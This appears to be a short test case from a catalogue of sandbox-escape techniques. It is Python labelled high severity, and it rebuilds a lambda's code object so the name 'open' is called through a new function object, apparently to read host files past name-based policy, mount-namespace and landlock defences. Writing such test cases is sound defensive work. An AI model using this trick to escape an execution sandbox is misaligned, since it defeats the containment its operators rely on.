# technique: a function made from changed code
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import types

def trick():
    code = (lambda: unknown).__code__.replace(co_names=("open",))
    return types.FunctionType(code, {})()

read_host(trick)
